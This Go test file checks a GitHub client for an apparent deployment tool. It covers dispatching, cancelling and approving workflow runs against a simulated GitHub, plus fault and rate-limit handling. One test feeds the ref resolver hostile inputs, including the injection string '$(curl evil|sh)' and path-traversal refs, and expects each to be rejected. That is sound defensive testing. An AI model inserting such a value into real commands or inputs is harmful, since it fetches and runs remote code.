package github_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/require"

	"bellhop/clock"
	"bellhop/environments"
	"bellhop/integrations/github"
	"bellhop/playground/demo"
	playground "bellhop/playground/github"
)

// world is the playground's GitHub with a client for it.
type world struct {
	t      *testing.T
	clock  *clock.Adjustable
	url    string
	client *github.Client
}

func newWorld(t *testing.T) *world {
	t.Helper()
	w := &world{t: t, clock: &clock.Adjustable{}}
	mux := http.NewServeMux()
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	w.url = server.URL
	company, err := playground.ParseWorld(demo.GitHub())
	require.NoError(t, err)
	s, err := playground.New(playground.Config{Clock: w.clock, World: company, BaseURL: w.url, Log: zerolog.Nop()})
	require.NoError(t, err)
	s.Register(mux)
	w.client, err = github.New(github.Options{APIURL: w.url + "/api/v3/", Token: "ghp_demo", Clock: w.clock})
	require.NoError(t, err)
	return w
}

// control asks the playground for something.
func (w *world) control(path string, body map[string]any) {
	w.t.Helper()
	raw, err := json.Marshal(body)
	require.NoError(w.t, err)
	answer, err := http.Post(w.url+"/_control/github/"+path, "application/json", bytes.NewReader(raw))
	require.NoError(w.t, err)
	defer func() { require.NoError(w.t, answer.Body.Close()) }()
	var out struct {
		OK    bool   `json:"ok"`
		Error string `json:"error"`
	}
	require.NoError(w.t, json.NewDecoder(answer.Body).Decode(&out))
	require.True(w.t, out.OK, out.Error)
}

// listLag is after how long a dispatched run stands in GitHub's lists for sure.
const listLag = 5 * time.Second

var workflow = environments.Workflow{Repository: "acme/platform", File: "deploy-env.yml", Ref: "main"}

func (w *world) inputs(ref string, action environments.Action) environments.Inputs {
	in := environments.Inputs{Component: "payments", Environment: environments.Key{Component: "payments", Kind: "preview", Ref: ref}.String(), Action: action, ID: "bh" + ref}
	if action == environments.Deploy {
		commit, err := github.NewRepositories(w.client).Resolve(context.Background(), "acme/payments", ref)
		require.NoError(w.t, err)
		in.Ref, in.SHA = ref, commit.SHA
	}
	return in
}

// end moves the clock until a run is completed, and collects what was seen on the way.
func (w *world) end(d *github.DeployRuns, id int64) (last environments.Run, seen []environments.Run) {
	w.t.Helper()
	for range 200 {
		run, err := d.Run(context.Background(), workflow.Repository, id)
		require.NoError(w.t, err)
		if len(seen) == 0 || seen[len(seen)-1] != run {
			seen = append(seen, run)
		}
		if run.Status == environments.StatusCompleted {
			return run, seen
		}
		require.NoError(w.t, w.clock.Advance(time.Second))
	}
	require.Fail(w.t, "the run does not end")
	return last, seen
}

func TestDeployThroughGitHub(t *testing.T) {
	w, ctx := newWorld(t), context.Background()
	d := github.NewDeployRuns(w.client)
	in := w.inputs("feature-x", environments.Deploy)
	began := w.clock.Now()
	run, err := d.Dispatch(ctx, workflow, in)
	require.NoError(t, err)
	require.NotZero(t, run.ID)
	require.NoError(t, w.clock.Advance(listLag))
	found, ok, err := d.FindRun(ctx, workflow, in.ID, began.Add(-5*time.Minute))
	require.NoError(t, err)
	require.True(t, ok)
	require.Equal(t, run.ID, found.ID)
	_, ok, err = d.FindRun(ctx, workflow, "no-such-id", began.Add(-5*time.Minute))
	require.NoError(t, err)
	require.False(t, ok)

	last, seen := w.end(d, run.ID)
	require.Equal(t, environments.ConclusionSuccess, last.Conclusion)
	require.Equal(t, last.Steps, last.Step)
	var names []string
	for _, s := range seen {
		if s.StepName != "" {
			require.LessOrEqual(t, s.Step, s.Steps)
			names = append(names, s.StepName)
		}
	}
	require.Subset(t, names, []string{"build image", "migrate database"})
	url, err := d.DeploymentURL(ctx, workflow.Repository, in.Environment, run.ID)
	require.NoError(t, err)
	require.NotEmpty(t, url)
	url, err = d.DeploymentURL(ctx, workflow.Repository, in.Environment, run.ID+1)
	require.NoError(t, err)
	require.Empty(t, url, "another run's deployment is not this one's")
	require.NoError(t, d.Cancel(ctx, workflow.Repository, run.ID), "a run that has ended is no error")

	run, err = d.Dispatch(ctx, workflow, w.inputs("feature-x", environments.Destroy))
	require.NoError(t, err)
	last, _ = w.end(d, run.ID)
	require.Equal(t, environments.ConclusionSuccess, last.Conclusion, "needs neither ref nor commit")
}

func TestDeployThatFails(t *testing.T) {
	w, ctx := newWorld(t), context.Background()
	d := github.NewDeployRuns(w.client)
	run, err := d.Dispatch(ctx, workflow, w.inputs("broken-migration", environments.Deploy))
	require.NoError(t, err)
	last, _ := w.end(d, run.ID)
	require.Equal(t, environments.ConclusionFailure, last.Conclusion)
	require.Equal(t, "migrate database", last.FailedStep)
	require.Contains(t, last.FailedURL, "/acme/platform/")
}

func TestCancelARun(t *testing.T) {
	w, ctx := newWorld(t), context.Background()
	d := github.NewDeployRuns(w.client)
	run, err := d.Dispatch(ctx, workflow, w.inputs("feature-x", environments.Deploy))
	require.NoError(t, err)
	require.NoError(t, w.clock.Advance(4*time.Second))
	require.NoError(t, d.Cancel(ctx, workflow.Repository, run.ID))
	last, _ := w.end(d, run.ID)
	require.Equal(t, environments.ConclusionCancelled, last.Conclusion)
	require.ErrorIs(t, errOf(d.Run(ctx, workflow.Repository, 1)), environments.ErrNotFound)
	require.Error(t, d.Cancel(ctx, workflow.Repository, 1))
}

func errOf(_ environments.Run, err error) error { return err }

func TestReviewersAreWaitedFor(t *testing.T) {
	w, ctx := newWorld(t), context.Background()
	d := github.NewDeployRuns(w.client)
	run, err := d.Dispatch(ctx, workflow, w.inputs("needs-review", environments.Deploy))
	require.NoError(t, err)
	require.NoError(t, w.clock.Advance(30*time.Second))
	waiting, err := d.Run(ctx, workflow.Repository, run.ID)
	require.NoError(t, err)
	require.Equal(t, environments.StatusWaiting, waiting.Status)
	w.control("approve", map[string]any{"run_id": run.ID})
	last, _ := w.end(d, run.ID)
	require.Equal(t, environments.ConclusionSuccess, last.Conclusion)
}

func TestDispatchRefused(t *testing.T) {
	w, ctx := newWorld(t), context.Background()
	d := github.NewDeployRuns(w.client)
	for name, spoil := range map[string]func(*environments.Workflow, *environments.Inputs){
		"no such file":  func(f *environments.Workflow, _ *environments.Inputs) { f.File = "nothing.yml" },
		"no such ref":   func(f *environments.Workflow, _ *environments.Inputs) { f.Ref = "nothing" },
		"no such repo":  func(f *environments.Workflow, _ *environments.Inputs) { f.Repository = "acme/nothing" },
		"bad choice":    func(_ *environments.Workflow, in *environments.Inputs) { in.Action = "explode" },
		"input missing": func(_ *environments.Workflow, in *environments.Inputs) { in.Component = "" },
	} {
		file, in := workflow, w.inputs("feature-x", environments.Deploy)
		spoil(&file, &in)
		_, err := d.Dispatch(ctx, file, in)
		var refused *environments.Refused
		require.ErrorAs(t, err, &refused, name)
		require.Contains(t, refused.Message, "GitHub refused to start "+file.String(), name)
	}
}

func TestDispatchFaults(t *testing.T) {
	ctx := context.Background()
	at := "/dispatches$"
	t.Run("lost answer", func(t *testing.T) {
		w := newWorld(t)
		d := github.NewDeployRuns(w.client)
		in := w.inputs("feature-x", environments.Deploy)
		w.control("fault", map[string]any{"path": at, "method": "POST", "times": 1, "drop_answer": true})
		_, err := d.Dispatch(ctx, workflow, in)
		var refused *environments.Refused
		require.Error(t, err)
		require.False(t, errors.As(err, &refused), "nobody knows")
		require.NoError(t, w.clock.Advance(listLag))
		_, ok, err := d.FindRun(ctx, workflow, in.ID, w.clock.Now().Add(-5*time.Minute))
		require.NoError(t, err)
		require.True(t, ok)
	})
	t.Run("500", func(t *testing.T) {
		w := newWorld(t)
		w.control("fault", map[string]any{"path": at, "method": "POST", "times": 1, "status": 500})
		_, err := github.NewDeployRuns(w.client).Dispatch(ctx, workflow, w.inputs("feature-x", environments.Deploy))
		var refused *environments.Refused
		require.Error(t, err)
		require.False(t, errors.As(err, &refused))
	})
	for _, limit := range []string{"primary", "secondary"} {
		t.Run(limit, func(t *testing.T) {
			w := newWorld(t)
			d, in := github.NewDeployRuns(w.client), w.inputs("feature-x", environments.Deploy)
			w.control("fault", map[string]any{"path": at, "method": "POST", "times": 1, "rate_limit": limit})
			_, err := d.Dispatch(ctx, workflow, in)
			var later interface{ RetryAt() time.Time }
			require.ErrorAs(t, err, &later)
			require.NoError(t, w.clock.To(later.RetryAt().Add(time.Second)))
			_, err = d.Dispatch(ctx, workflow, in)
			require.NoError(t, err)
		})
	}
	t.Run("an older server", func(t *testing.T) {
		w := newWorld(t)
		d, in := github.NewDeployRuns(w.client), w.inputs("feature-x", environments.Deploy)
		w.control("fault", map[string]any{"path": at, "method": "POST", "times": 1, "status": 422,
			"body": map[string]any{"message": "Invalid request.\n\n\"return_run_details\" is not a permitted key."}})
		run, err := d.Dispatch(ctx, workflow, in)
		require.NoError(t, err)
		require.Zero(t, run.ID)
		require.NoError(t, w.clock.Advance(listLag))
		_, ok, err := d.FindRun(ctx, workflow, in.ID, w.clock.Now().Add(-5*time.Minute))
		require.NoError(t, err)
		require.True(t, ok)
	})
}

func TestRepositories(t *testing.T) {
	w, ctx := newWorld(t), context.Background()
	r := github.NewRepositories(w.client)
	commit, err := r.Resolve(ctx, "acme/payments", "feature-x")
	require.NoError(t, err)
	require.Len(t, commit.SHA, 40)
	require.NotEmpty(t, commit.Subject)
	require.NotContains(t, commit.Subject, "\n")
	require.NotEmpty(t, commit.Author)
	require.Equal(t, "alice", commit.Login)
	require.Contains(t, commit.URL, "/acme/payments/commit/"+commit.SHA)
	for _, ref := range []string{commit.SHA, commit.SHA[:10], strings.ToUpper(commit.SHA[:12])} {
		again, err := r.Resolve(ctx, "acme/payments", ref)
		require.NoError(t, err, ref)
		require.Equal(t, commit.SHA, again.SHA)
	}
	_, err = r.Resolve(ctx, "acme/payments", "fix/Rounding-EUR")
	require.NoError(t, err)
	for _, ref := range []string{"", "nothing", "fix/rounding-eur", "..", "../payments", "feature-x/..", "a b", "$(curl evil|sh)", "<!channel>", "deadbeef", ".git", "a?b", "feature-x\n"} {
		_, err := r.Resolve(ctx, "acme/payments", ref)
		require.ErrorIs(t, err, environments.ErrNotFound, ref)
	}

	pull, err := r.PullRequest(ctx, "acme/payments", 482)
	require.NoError(t, err)
	require.Equal(t, environments.PullRequest{Number: 482, Title: "Retry vouchers", Branch: "feature-x", Head: pull.Head, Open: true}, pull)
	require.Equal(t, commit.SHA, pull.Head.SHA)
	_, err = r.PullRequest(ctx, "acme/payments", 999999)
	require.ErrorIs(t, err, environments.ErrNotFound)

	names, err := r.Branches(ctx, "acme/payments")
	require.NoError(t, err)
	require.Subset(t, names, []string{"main", "feature-x", "feature-y", "fix/Rounding-EUR"})
	mine, err := r.BranchesOf(ctx, "acme/payments", "alice", 5)
	require.NoError(t, err)
	require.NotEmpty(t, mine)
	for _, b := range mine {
		require.Equal(t, "alice", b.Commit.Login)
	}
	_, err = r.Branches(ctx, "acme/nothing")
	require.ErrorIs(t, err, environments.ErrNotFound)

	me, err := w.client.Self(ctx)
	require.NoError(t, err)
	require.NotEmpty(t, me.Login)
}
